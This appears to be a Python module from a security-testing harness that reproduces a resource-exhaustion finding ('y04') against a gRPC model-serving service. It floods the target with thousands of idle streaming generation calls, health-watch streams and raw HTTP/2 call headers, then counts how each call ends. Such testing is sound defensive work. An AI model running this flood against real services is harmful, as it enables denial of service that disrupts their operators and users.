from __future__ import annotations

import asyncio

from grpc_health.v1 import health_pb2, health_pb2_grpc

from http2_frames import Connection, call

from ..attack import SERVICE, Attack, Seen, Target

BATCHES, WATCHES, HEADERS = 2300, 1000, 1500


async def attack(target: Target, seen: Seen) -> None:
    async with target.generation() as first, target.generation() as second, target.channel() as channel:
        batches = [
            (first, second)[number % 2].GenerateMany(metadata=target.metadata) for number in range(BATCHES)
        ]
        health = health_pb2_grpc.HealthStub(channel)
        watches = [health.Watch(health_pb2.HealthCheckRequest()) for _ in range(WATCHES)]
        try:
            connection = await Connection.open(target.address)
        except OSError:  # the server is ending
            seen["not connected"] += 1
            return
        methods = ("Generate", "Tokenize", "Embed")
        await connection.send(
            b"".join(call(2 * at + 1, SERVICE + methods[at % 3], target.metadata) for at in range(HEADERS))
        )
        await asyncio.sleep(target.seconds)
        for each in (*batches, *watches):
            if each.done():
                seen[(await each.code()).name] += 1
            else:
                seen["idle to the end"] += 1
                each.cancel()
        await connection.close()


ATTACK = Attack(name="idle-calls", finding="y04", run=attack)
